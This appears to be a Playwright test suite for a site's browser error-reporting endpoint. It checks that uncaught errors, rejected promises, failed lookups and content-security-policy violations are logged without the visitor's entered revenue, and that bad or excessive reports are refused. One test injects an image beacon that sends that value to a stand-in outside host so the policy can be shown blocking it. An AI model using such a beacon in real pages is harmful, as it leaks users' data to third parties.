/** What breaks in a browser arrives in the log of the host, without what the visitor entered. */
import type { APIRequestContext, Page } from '@playwright/test';
import { chromiumArgs, findBrowser } from '../../../tools/browser.ts';
import { calculatorPath, LOOKUP } from './support/calculator-page';
import { expect, test } from './support/console-watch';
import { interact } from './support/hydration';
import { type LoggedSite, startLoggedSite } from './support/logged-site';
import { SHELL_CODE } from './support/missing-code';

// Browsers keep reports back for a minute otherwise, and trust no certificate of this machine.
const args = [...chromiumArgs, '--short-reporting-delay', '--ignore-certificate-errors'];
test.use({ ignoreHTTPSErrors: true, launchOptions: { executablePath: findBrowser(), args } });
// One after the other: they read one log.
test.describe.configure({ mode: 'default' });

const REVENUE = '271828';
const ENTERED = `?date=06/2019&annualRevenue=${REVENUE}`;

let site: LoggedSite;

async function untilUp(request: APIRequestContext) {
  const isUp = () =>
    request.head(site.origin).then(
      (answer) => answer.ok(),
      () => false,
    );
  await expect.poll(isUp, { timeout: 45_000 }).toBe(true);
}

test.beforeAll(async ({ request }) => {
  site = startLoggedSite();
  await untilUp(request);
});
test.afterAll(() => site.close());

/** The page with figures in its address and with code of ours that does what no code of ours does. */
async function openWith(page: Page, code: string) {
  await page.route(SHELL_CODE, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: `${await response.text()};${code}` });
  });
  await page.goto(`${site.origin}${calculatorPath}${ENTERED}`);
  await interact(page);
}

async function expectReport(report: object) {
  await expect
    .poll(() => site.reports(), { timeout: 30_000 })
    .toContainEqual(expect.objectContaining({ page: calculatorPath, ...report }));
  const log = JSON.stringify(site.reports());
  expect(log).not.toContain(REVENUE);
  expect(log).not.toContain('annualRevenue');
}

test('an error that nobody catches', async ({ page }) => {
  await openWith(page, `setTimeout(() => { throw new TypeError('at ' + location.href) })`);
  await expectReport({
    report: 'error',
    message: `TypeError: at https://localhost:…${calculatorPath}`,
    frames: [expect.stringMatching(/^\/assets\/shell-[\w-]+\.js:\d+:\d+$/)],
    browser: expect.stringMatching(/^Chrome \d+$/),
  });
});

test('a promise that nobody catches', async ({ page }) => {
  await openWith(page, `Promise.reject(new Error('rejected with ${REVENUE}'))`);
  await expectReport({ report: 'unhandledrejection', message: 'Error: rejected with …' });
});

test('an error that a boundary catches', async ({ page }) => {
  await page.addInitScript(() => {
    window.ResizeObserver = class {
      constructor() {
        throw new Error('caught');
      }
    } as unknown as typeof ResizeObserver; // All that is asked of it is to fail.
  });
  await openWith(page, '');
  await expectReport({ report: 'boundary', message: 'Error: caught' });
});

test('a lookup that fails, with its kind', async ({ page }) => {
  await page.route(LOOKUP, (route) => route.fulfill({ status: 503 }));
  await openWith(page, '');
  await expectReport({ report: 'lookup', code: 'http-status', status: 503 });
});

test('what the policy stops, told by the browser itself', async ({ page }) => {
  await openWith(page, `new Image().src = 'https://other.example/pixel.png?is=${REVENUE}'`);
  await expectReport({
    report: 'csp-violation',
    directive: 'img-src',
    blocked: 'https://other.example/pixel.png',
  });
});

test('says the same fault once, and five at most of one page view', async ({ page }) => {
  const before = site.reports().length;
  const thrown = 'for (let at = 0; at < 20; at += 1)';
  await openWith(page, `${thrown} Promise.reject(new Error('often ' + 'abcdefg'[at % 7]))`);
  const since = () => site.reports().slice(before);
  await expect.poll(() => since().length, { timeout: 30_000 }).toBeGreaterThanOrEqual(5);
  await page.waitForTimeout(500); // A sixth would be on its way.
  expect(new Set(since().map(({ message }) => message)).size).toBe(5);
  expect(since()).toHaveLength(5);
});

test('refuses what is no report', async ({ request }) => {
  const address = `${site.origin}/reports`;
  expect((await request.get(address)).status()).toBe(405);
  const post = async (type: string, data: string) => {
    const headers = { 'Content-Type': type };
    const answer = await request.post(address, { headers, data: Buffer.from(data) });
    expect(answer.headers()['content-security-policy']).toContain("default-src 'none'");
    return answer.status();
  };
  expect(await post('text/plain', 'x')).toBe(415);
  expect(await post('application/json', '"')).toBe(400);
  expect(await post('application/json', 'x'.repeat(8193))).toBe(413);
  expect(await post('application/json', '{}')).toBe(204);
});

test('refuses with 429 once there are too many', async ({ request }) => {
  const address = `${site.origin}/reports`;
  const statuses = Array.from({ length: 80 }, async () =>
    (await request.post(address, { data: {} })).status(),
  );
  expect(new Set(await Promise.all(statuses))).toEqual(new Set([204, 429]));
});
